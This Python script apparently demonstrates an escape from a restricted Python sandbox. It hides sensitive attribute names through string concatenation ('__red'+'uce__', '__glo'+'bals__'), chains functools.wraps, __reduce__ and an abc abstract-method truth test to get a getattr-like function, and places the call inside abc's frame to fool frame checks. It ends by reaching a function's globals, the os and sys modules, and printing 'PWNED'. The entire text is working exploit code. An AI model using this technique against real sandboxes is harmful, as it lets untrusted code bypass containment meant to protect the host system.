import functools, abc

box = {}
class W:
    def __setattr__(self, k, v):
        box[k] = v
target = (1).__add__
uw = functools.wraps(target).func
uw(W(), target, ("__red" + "uce__",), ())
g, _ = box["__red" + "uce__"]()

sink = []
launcher_fn = type(abc.ABC).register
class X:
    # called by the truth test of `if getattr(value, "__isabstractmethod__", False):` in abc;
    # list.extend drives map in C, so g's nearest Python frame is abc's, at a site that starts
    # with getattr( and a literal second argument
    __bool__ = functools.partial(sink.extend, map(g, [launcher_fn], ["__glo" + "bals__"]))
class Holder:
    pass
h = Holder()
h.__isabstractmethod__ = X()
class C(abc.ABC):
    pass
C.v = h
try:
    abc.update_abstractmethods(C)
except TypeError as e:
    print("expected:", e)
G = sink[0]
print("PW" + "NED", type(G).__name__, G["o" + "s"].getpid(), len(G["s" + "ys"].modules))
